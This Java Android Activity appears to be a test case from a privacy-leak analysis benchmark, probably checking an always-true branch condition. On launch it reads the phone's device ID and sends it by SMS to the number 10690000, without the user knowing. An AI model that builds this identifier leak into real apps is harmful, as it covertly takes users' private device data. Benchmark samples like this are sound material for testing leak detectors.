package cn.privlens.suite.constant_true;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class Main extends Activity {
    static boolean debug() { return DEBUG; }
    private static final boolean DEBUG = Boolean.parseBoolean("true");
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        boolean send = true;
        if (send) {
            SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
        } else {
            Log.i("suite", "off");
        }
    }
}
